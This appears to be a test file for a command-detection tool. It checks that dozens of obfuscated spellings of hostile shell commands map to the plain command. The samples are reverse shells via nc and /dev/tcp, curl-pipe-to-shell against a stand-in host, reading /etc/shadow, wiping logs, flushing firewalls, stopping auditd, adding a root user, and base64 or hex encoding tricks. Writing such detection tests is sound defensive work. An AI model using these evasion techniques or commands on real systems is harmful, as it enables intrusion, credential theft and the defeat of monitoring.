/* Other spellings of simple commands, as attackers write them. Each must lead to the view of the plain spelling. */
import { assertView, script as inShell, start } from './samples.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');

/** The view of a plain command, and scripts of bash that do the same. */
const SCRIPTS: Readonly<Record<string, readonly string[]>> = {
  '/usr/bin/wget | wget http://x': [
    `w'g'e"t" http://x`,
    '\\w\\g\\e\\t http://x',
    'w\\\nget http://x',
    'w$()get http://x',
    'w``get http://x',
    'w$1get http://x',
    'wg$(:)et http://x',
    '$(which wget) http://x',
    '$(command -v wget) http://x',
    '`echo w`get http://x',
    '$(rev<<<tegw) http://x',
    '$(echo tegw | rev) http://x',
    "$(tr '[A-Z]' '[a-z]' <<< WGET) http://x",
    "$(sed 's/X//g' <<< wXgXeXt) http://x",
    '$(head -c4 <<< wgetfoo) http://x',
    '$(cut -c1-4 <<< wgetfoo) http://x',
    `$(a="WgEt";printf %s "\${a,,}") http://x`,
    'a=wg;b=et;$a$b http://x',
    'IFS=];b=wget]http://x;$b',
    "X=$'wget\\x20http://x'&&$X",
    "p=$'wget\\u0020http://x';$p",
    '{wget,http://x}',
    `wget\${IFS}http://x`,
    'wget$IFS$9http://x',
    `\${x:-wget} http://x`,
    `\${HOME:0:1}usr\${HOME:0:1}bin/wget http://x`,
    "$(printf '\\167\\147\\145\\164') http://x",
    "$'\\167\\147\\145\\164' http://x",
    "$(echo -e '\\x77\\x67\\x65\\x74') http://x",
    '$(xxd -r -p <<< 77676574) http://x',
    `$(base64 -d <<< ${base64('wget')}) http://x`,
    `$(openssl base64 -d <<< ${base64('wget')}) http://x`,
    '$(base32 -d <<< O5TWK5A=) http://x',
    '/???/bin/w?et http://x',
    '/usr/bin/w[g]et http://x',
    '! wget http://x',
    'coproc wget http://x',
    'function f { wget http://x; }; f',
    'f() { wget http://x; }; f',
    'trap "wget http://x" EXIT',
    'echo "wget http://x" | sh',
    "printf 'wget http://x' | bash -s",
    "echo 'wget http://x' | at now",
    "echo 'wget http://x' | sudo -s",
    "echo 'wget http://x' | tee /tmp/a | sh",
    'echo wget http://x > /tmp/a.sh; chmod +x /tmp/a.sh; /tmp/a.sh',
    'cd /tmp; echo wget http://x > a; . ./a',
    'source /dev/stdin <<< "wget http://x"',
    'bash <(echo wget http://x)',
    '. <(echo wget http://x)',
    'echo http://x | xargs wget',
    'echo http://x | xargs -I % wget %',
    'xargs wget <<< http://x',
    `sh -c 'wget $1' _ http://x`,
    `sh -c '"$@"' _ wget http://x`,
    `sh -c '$0 $1' wget http://x`,
    `eval $(echo ${base64('wget')} | base64 -d) http://x`,
    `bash -c "{echo,${base64('wget http://x')}}|{base64,-d}|{bash,-i}"`,
    `exec $(printf wg)et http://x`,
    'setsid sh -c "wget http://x" &',
    'env -S "wget http://x"',
    'sudo -u#0 -- /usr/bin/wget http://x',
    'su root -c "wget http://x"',
    'ssh localhost wget http://x',
    'busybox sh -c "busybox wget http://x"',
  ],
  '/usr/bin/cat | cat /etc/shadow': [
    'cat</etc/shadow',
    '{cat,/etc/shadow}',
    'cat /etc/../etc/./shadow',
    "cat /e\\tc/sh'ad'ow",
    'cat /etc/sh?dow',
    '/usr/bin/c?t /e??/shad*',
    'cat /etc/shad[o]w',
    'cd /etc; cat shadow',
    'cd /etc && cat ./shadow',
    'a=/etc; b=shadow; cat $a/$b',
    'for f in /etc/shadow; do cat $f; done',
    'cat /proc/self/root/etc/shadow',
    `cat /etc\${x}/shadow`,
    'cat "/etc"/"shadow"',
    'find /etc -name shadow -exec cat /etc/shadow ;',
  ],
  '/usr/bin/rm | rm -rf /var/log/*': [
    'cd /var/log; rm -rf *',
    'r""m -rf /var/log/*',
    'cd /var && cd log && rm -rf *',
    'rm -rf /var//log/*',
  ],
  '/usr/bin/iptables | iptables -F': [
    'ipt""ables -F',
    'sudo iptables -F',
    '/usr/sbin/../bin/iptables -F',
    'a=iptables; "$a" -F',
    `iptables\${IFS}-F`,
  ],
  '/usr/bin/nc | nc -e /bin/sh h 1': [
    'n\\c -e /bin/sh h 1',
    '/usr/bin//nc -e /bin/sh h 1',
    '{nc,-e,/bin/sh,h,1}',
    'setsid nohup nc -e /bin/sh h 1 &',
  ],
  '/usr/bin/bash | bash -i >& /dev/tcp/h/1 0>&1': [
    "b'as'h -i >& /dev/tcp/h/1 0>&1",
    'bash -i >&/dev/tcp/h/1 0>&1',
    'bash   -i   >&   /dev/tcp/h/1   0>&1',
    `echo ${base64('bash -i >& /dev/tcp/h/1 0>&1')}|base64 -d|bash`,
    `h=h;p=1;bash -i >& /dev/tcp/$h/$p 0>&1`,
  ],
  '/usr/bin/sh | sh -c curl http://x | sh': [
    `sh -c 'c""url http://x|s""h'`,
    `echo ${hex('curl http://x | sh')} | xxd -r -p | sh`,
    `python3 -c 'import os;os.system("curl http://x|sh")'`,
    `perl -e 'system(pack("H*","${hex('curl http://x|sh')}"))'`,
    `node -e 'require("child_process").exec(Buffer.from("${base64('curl http://x|sh')}","base64").toString())'`,
    `awk 'BEGIN{system("curl http://x|sh")}'`,
    'su -c "curl http://x | sh"',
    'su -c "curl http://x|sh" -s /bin/bash bob',
  ],
  '/usr/bin/useradd | useradd -o -u 0 x': [
    'user""add -o -u 0 x',
    'eval user"add" -o -u 0 x',
    '/usr/bin/useradd -o   -u 0 x',
    'chroot / useradd -o -u 0 x',
  ],
  '/usr/bin/systemctl | systemctl stop auditd': [
    's=stop; systemctl $s auditd',
    'systemctl "stop" \'auditd\'',
    '(systemctl stop auditd)',
    'if systemctl stop auditd; then :; fi',
  ],
  '/usr/bin/chmod | chmod +x /tmp/a': [
    'cd /tmp; chmod +x a',
    'chmod +x /tmp/./a',
    'busybox chmod +x /tmp/a',
    '$(echo chmod) +x /tmp/a',
  ],
  '/tmp/x | /tmp/x': [
    'cd /tmp; $PWD/../tmp/x',
    '/tmp//x',
    'exec -a [kworker] /tmp/x',
    '/lib64/ld-linux-x86-64.so.2 /tmp/x',
    'a=/tmp/x; $a',
  ],
  '/usr/bin/insmod | insmod /tmp/a.ko': ['cd /tmp && insmod a.ko', 'ins""mod /tmp/a.ko', 'busybox insmod /tmp/a.ko'],
  '/usr/bin/crontab | crontab -r': ['cron\\tab -r', 'env crontab -r', 'c=crontab\ne=-r\n$c $e'],
  '/usr/bin/docker | docker run --privileged x': [
    'docker  run  --privileged  x',
    'd=docker; $d run --privileged x',
    "'docker' run --privileged x",
  ],
  '/usr/bin/whoami | whoami': [
    'who$@ami',
    'who$*ami',
    'wh""oami',
    '`whoami`',
    'echo `whoami`',
    'a=$(whoami)',
    'echo "$(whoami)"',
    'while whoami; do break; done',
  ],
};

/** The same for programs that are no shell. */
const STARTS: Readonly<Record<string, readonly (readonly string[])[]>> = {
  '/usr/bin/wget | wget http://x': [
    ['python3', '-c', '__import__("os").system("wget http://x")'],
    ['python3', '-c', 'import os;c="wg"+"et";os.system(c+" http://x")'],
    ['python3', '-c', 'import pty;pty.spawn(["wget","http://x"])'],
    ['python3', '-c', `exec(bytes.fromhex('${hex("import os;os.system('wget http://x')")}'))`],
    ['perl', '-MMIME::Base64', '-e', `system(decode_base64("${base64('wget http://x')}"))`],
    ['php', '-r', `eval(base64_decode("${base64("system('wget http://x');")}"));`],
    ['ruby', '-e', 'IO.popen("wget http://x")'],
    ['nsenter', '-t', '1', '-m', '-u', '--', 'sh', '-c', 'wget http://x'],
    ['systemd-run', '--pipe', 'sh', '-c', 'wget http://x'],
    ['tar', 'xf', 'a', '--to-command=wget http://x'],
    ['ssh', '-o', 'ProxyCommand=wget http://x', 'h'],
    ['git', '-c', 'core.sshCommand=wget http://x', 'fetch'],
    ['gdb', '-ex', '!wget http://x'],
    ['find', '/', '-name', 'x', '-execdir', 'wget', 'http://x', ';'],
  ],
};

describe('views of other spellings', () => {
  for (const [view, texts] of Object.entries(SCRIPTS)) {
    describe(view, () => {
      for (const text of texts) it(text, () => assertView(inShell(text), view));
    });
  }
  for (const [view, starts] of Object.entries(STARTS)) {
    describe(`${view}, without a shell`, () => {
      for (const argv of starts) {
        it(argv.join(' '), () => assertView({ ...start(argv[0] ?? ''), commandLine: argv.join(' '), argv }, view));
      }
    });
  }
});
